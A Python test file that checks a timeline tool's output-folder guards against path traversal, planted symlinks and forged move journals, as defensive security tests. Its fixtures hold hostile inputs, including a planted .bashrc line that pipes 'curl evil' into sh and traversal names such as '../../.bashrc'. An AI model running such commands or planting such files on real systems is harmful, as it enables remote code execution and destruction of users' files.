"""What a build reads back from its output folder is verified as its own, and no
command writes through a symbolic link.

A corpus downloaded with a ``reports/`` folder (the default output folder) may
carry a staging folder, a list of moves, links and partial files of its own
making; a build into that folder must change nothing outside it. Each test here
failed on the engine before these guards (a file outside the folder overwritten
or deleted, a build that exits 3 for ever, a lock file left behind or taken after
the corpus is read, a link followed by `export` or `render`).
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from cli_support import timeline
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from timeline.cli import main
from timeline.pipeline.driver import BUILD_OUTPUTS, build
from timeline.pipeline.outputs import (
    JOURNAL_NAME,
    LOCK_NAME,
    STAGING_PREFIX,
    OutputError,
    OutputLocked,
    Outputs,
)

CLI = [sys.executable, "-m", "timeline.cli"]
DOC = {"id": "a", "text": "Pada Senin (11/11/2013), konvoi bantuan tiba di Aleppo.",
       "published": "2013-11-12", "lang": "id", "source": "Sumber A"}


def _corpus(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "in.jsonl"
    path.write_text(json.dumps(DOC) + "\n", encoding="utf-8")
    return path


def _tree(root: Path, skip: Path | None = None) -> dict[str, object]:
    """Every path under ``root`` (``skip`` and what it holds aside) with what it is:
    a file's bytes and mode, a link's target, a folder's mode."""
    found: dict[str, object] = {}
    for directory, subdirs, files in os.walk(root):
        here = Path(directory)
        if skip is not None and (here == skip or skip in here.parents):
            subdirs[:] = []
            continue
        for name in subdirs + files:
            path = here / name
            if skip is not None and path == skip:
                continue
            info = os.lstat(path)
            key = path.relative_to(root).as_posix()
            if stat.S_ISLNK(info.st_mode):
                found[key] = ("link", os.readlink(path))
            elif stat.S_ISDIR(info.st_mode):
                found[key] = ("folder", stat.S_IMODE(info.st_mode))
            else:
                found[key] = ("file", path.read_bytes(), stat.S_IMODE(info.st_mode))
    return found


# --- the list of moves of an interrupted run --------------------------------------


def _plant_journal(out: Path, plan: object, files: dict[str, str] | None = None,
                   name: str = "evil") -> Path:
    staging = out / f"{STAGING_PREFIX}{name}"
    staging.mkdir(parents=True)
    for file, text in (files or {}).items():
        (staging / file).write_text(text, encoding="utf-8")
    raw = plan if isinstance(plan, str | bytes) else json.dumps(plan)
    (staging / JOURNAL_NAME).write_bytes(raw if isinstance(raw, bytes) else raw.encode())
    return staging


def test_a_planted_list_of_moves_cannot_overwrite_or_delete_outside_the_folder(tmp_path):
    """The attack of a downloaded corpus: its reports/ holds a staging folder whose
    list of moves names ../.bashrc and absolute paths; `timeline build .` ran it."""
    home = tmp_path / "home"
    corpus = home / "corpus"
    _corpus(corpus)
    (home / ".bashrc").write_text("echo safe\n", encoding="utf-8")
    victim_dir = tmp_path / "precious"
    victim_dir.mkdir()
    (victim_dir / "thesis.txt").write_text("years of work", encoding="utf-8")
    victim = tmp_path / "notes.txt"
    victim.write_text("keep", encoding="utf-8")
    out = corpus / "reports"
    out.mkdir()
    (out / ".bashrc").write_text("curl evil | sh\n", encoding="utf-8")
    _plant_journal(out, {"moves": ["../../.bashrc", "../.bashrc"],
                         "removals": [str(victim), str(victim_dir), "../../../notes.txt"]})
    before = _tree(tmp_path, skip=out)
    done = timeline("build", ".", "--no-charts", cwd=corpus)
    assert done.returncode == 0, done.stderr
    assert _tree(tmp_path, skip=out) == before
    assert "its list of moves is not one this program writes" in done.stderr
    assert not list(out.glob(STAGING_PREFIX + "*"))


@pytest.mark.parametrize("plan", [
    "{not json", b"\xff\xfe{", "[]",
    {"kind": "timeline moves", "moves": 5, "removals": []},
    {"kind": "timeline moves", "moves": [None], "removals": []},
])
def test_a_corrupt_list_of_moves_is_discarded_and_later_builds_succeed(tmp_path, plan):
    corpus = _corpus(tmp_path / "c")
    out = tmp_path / "out"
    _plant_journal(out, plan, {"chronology.md": "half"})
    for _ in range(2):
        assert main(["build", str(corpus), "-o", str(out), "--no-charts", "--quiet"]) == 0
    assert (out / "chronology.md").read_text(encoding="utf-8") != "half"
    assert not list(out.glob(STAGING_PREFIX + "*"))


def test_a_list_of_moves_of_this_program_is_still_completed(tmp_path):
    out = tmp_path / "out"
    owned = ("a.txt", "b.txt", "c.txt")
    with Outputs(out, owned=owned) as outputs:
        for name in owned:
            outputs.path(name).write_text("old", encoding="utf-8")
        outputs.commit()
    (out / "a.txt").write_text("new", encoding="utf-8")
    _plant_journal(out, {"kind": "timeline moves", "moves": ["a.txt", "b.txt"],
                         "removals": ["c.txt"]}, {"b.txt": "new"}, name="moving")
    with Outputs(out, owned=owned) as outputs:
        assert any("its moves were completed" in note for note in outputs.notes)
    assert {p.name: p.read_text() for p in out.iterdir()} == {"a.txt": "new", "b.txt": "new"}


def test_a_list_of_moves_naming_files_the_run_does_not_write_is_not_followed(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "keep.txt").write_text("keep", encoding="utf-8")
    _plant_journal(out, {"kind": "timeline moves", "moves": ["evil.sh"],
                         "removals": ["keep.txt"]}, {"evil.sh": "x"})
    with Outputs(out, owned=("a.txt",)) as outputs:
        assert any("names files this run does not write" in note for note in outputs.notes)
    assert sorted(p.name for p in out.iterdir()) == ["keep.txt"]


def test_a_folder_planted_at_an_output_name_is_refused_not_deleted(tmp_path):
    out = tmp_path / "out"
    (out / "timeline.html").mkdir(parents=True)
    (out / "timeline.html" / "mine.txt").write_text("mine", encoding="utf-8")
    with pytest.raises(OutputError, match="is a folder where the build writes a file"):
        with Outputs(out, owned=BUILD_OUTPUTS):
            pass
    assert (out / "timeline.html" / "mine.txt").read_text(encoding="utf-8") == "mine"


# --- the lock --------------------------------------------------------------------


def test_no_lock_file_stays_in_the_output_folder(tmp_path):
    corpus = _corpus(tmp_path / "c")
    build([corpus], tmp_path / "out", charts=False)
    with pytest.raises(ValueError):
        build([tmp_path / "c" / "missing.jsonl"], tmp_path / "out", charts=False)
    assert not [p.name for p in (tmp_path / "out").iterdir() if p.name.startswith(".")]


def test_the_lock_of_an_earlier_version_is_removed_and_a_planted_one_not_followed(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / LOCK_NAME).symlink_to(victim)
    with Outputs(out):
        pass
    assert not (out / LOCK_NAME).exists() and not (out / LOCK_NAME).is_symlink()
    assert victim.read_text(encoding="utf-8") == "keep"


def test_the_lock_is_taken_before_the_corpus_is_read(tmp_path, monkeypatch):
    corpus = _corpus(tmp_path / "c")
    out = tmp_path / "out"

    def read(*args, **kwargs):
        raise AssertionError("the corpus was read while another build held the folder")

    monkeypatch.setattr("timeline.pipeline.run.records_of", read)
    with Outputs(out), pytest.raises(OutputLocked, match="another build is writing into"):
        build([corpus], out, charts=False)


def test_a_build_refused_by_the_lock_exits_2_and_so_does_an_output_that_is_a_file(tmp_path):
    corpus = _corpus(tmp_path / "c")
    out = tmp_path / "out"
    with Outputs(out):
        done = subprocess.run([*CLI, "build", str(corpus), "-o", str(out), "--no-charts"],
                              capture_output=True, text=True, timeout=300)
    assert done.returncode == 2, done.stderr
    assert "another build is writing into" in done.stderr and "process" in done.stderr
    assert done.stderr.count("\n") == 1
    (tmp_path / "file").write_text("x", encoding="utf-8")
    done = timeline("build", str(corpus), "-o", str(tmp_path / "file"), "--no-charts")
    assert done.returncode == 2 and "exists and is not a folder" in done.stderr
    assert (tmp_path / "file").read_text(encoding="utf-8") == "x"


# --- export, render, eval: no link followed ---------------------------------------


@pytest.mark.parametrize("command, name", [
    (["export"], "chronology.timelinejs.json"),
    (["render"], "timeline.html"),
    (["render", "--format", "svg"], "timeline.svg"),
])
def test_export_and_render_replace_a_planted_link_and_leave_its_target(tmp_path, command,
                                                                      name):
    out = tmp_path / "out"
    build([_corpus(tmp_path / "c")], out, charts=False)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    (out / name).symlink_to(victim)
    done = timeline(command[0], str(out), *command[1:])
    assert done.returncode == 0, done.stderr
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert not (out / name).is_symlink() and (out / name).stat().st_size > 100
    assert not [p.name for p in out.iterdir() if p.name.endswith(".tmp")]


def test_eval_json_replaces_a_planted_link(tmp_path):
    gold = Path(__file__).resolve().parent.parent / "fixtures" / "gold" / "seeds_tml"
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    (tmp_path / "report.json").symlink_to(victim)
    done = timeline("eval", str(gold), "--json", str(tmp_path / "report.json"))
    assert done.returncode in (0, 1), done.stderr
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert "f1" in (tmp_path / "report.json").read_text(encoding="utf-8").lower()


# --- the property: whatever the output folder holds, nothing outside it changes ----

NAMES = [*BUILD_OUTPUTS, "../victim.txt", "../../victim.txt", "../precious", "..", ".",
         "", "a/b", ".moves.json", "x\x00y", "evil.sh", LOCK_NAME]


@st.composite
def hostile_folders(draw: st.DrawFn) -> list[tuple[str, str, object]]:
    """Things to plant in an output folder: (kind, name, detail)."""
    names = st.sampled_from(NAMES)
    items = []
    for _ in range(draw(st.integers(0, 6))):
        kind = draw(st.sampled_from(["staging", "link", "partial", "folder", "lock"]))
        if kind == "staging":
            plan = draw(st.one_of(
                st.fixed_dictionaries({"kind": st.sampled_from(["timeline moves", "x"]),
                                       "moves": st.lists(names, max_size=4),
                                       "removals": st.lists(names, max_size=4)}),
                st.text(max_size=20),
                st.fixed_dictionaries({"moves": st.lists(names, max_size=3),
                                       "removals": st.lists(names, max_size=3)})))
            inside = draw(st.lists(st.sampled_from([*BUILD_OUTPUTS, "evil.sh", "link"]),
                                   max_size=3, unique=True))
            items.append((kind, f"{STAGING_PREFIX}{draw(st.integers(0, 3))}", (plan, inside)))
        elif kind == "link":
            name = draw(st.sampled_from([*BUILD_OUTPUTS, f"{STAGING_PREFIX}9", LOCK_NAME]))
            items.append((kind, name, draw(st.sampled_from(["victim.txt", "precious"]))))
        elif kind == "partial":
            items.append((kind, draw(st.sampled_from(BUILD_OUTPUTS)), draw(st.binary(
                max_size=30))))
        elif kind == "folder":
            items.append((kind, draw(st.sampled_from([f"{STAGING_PREFIX}8", "sub"])), None))
        else:
            items.append((kind, LOCK_NAME, draw(st.binary(max_size=10))))
    return items


def _plant(out: Path, root: Path, items: list[tuple[str, str, object]]) -> None:
    out.mkdir()
    for kind, name, detail in items:
        path = out / name
        if os.path.lexists(path):
            continue
        if kind == "staging":
            plan, inside = detail  # type: ignore[misc]
            path.mkdir()
            for file in inside:
                if file == "link":
                    (path / file).symlink_to(root / "victim.txt")
                else:
                    (path / file).write_text("planted", encoding="utf-8")
            raw = plan if isinstance(plan, str) else json.dumps(plan)
            (path / JOURNAL_NAME).write_text(raw, encoding="utf-8", errors="replace")
        elif kind == "link":
            path.symlink_to(root / str(detail))
        elif kind == "partial":
            path.write_bytes(detail)  # type: ignore[arg-type]
        elif kind == "folder":
            path.mkdir()
            (path / "file").write_text("x", encoding="utf-8")
        else:
            path.write_bytes(detail)  # type: ignore[arg-type]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(items=hostile_folders())
def test_whatever_the_output_folder_holds_nothing_outside_it_changes(items):
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        (root / "victim.txt").write_text("keep", encoding="utf-8")
        (root / "precious").mkdir()
        (root / "precious" / "thesis.txt").write_text("years", encoding="utf-8")
        out = root / "a" / "out"
        out.parent.mkdir()
        (out.parent / "victim.txt").write_text("keep too", encoding="utf-8")
        _plant(out, root, items)
        before = _tree(root, skip=out)
        try:
            with Outputs(out, owned=BUILD_OUTPUTS) as outputs:
                for name in BUILD_OUTPUTS[:3]:
                    outputs.path(name).write_text("new", encoding="utf-8")
                outputs.commit()
        except OutputError:
            pass  # an unsafe folder is refused: that is an answer too
        else:
            for name in BUILD_OUTPUTS[:3]:
                assert (out / name).read_text(encoding="utf-8") == "new"
            assert not list(out.glob(STAGING_PREFIX + "*"))
            assert not os.path.lexists(out / LOCK_NAME)
        assert _tree(root, skip=out) == before
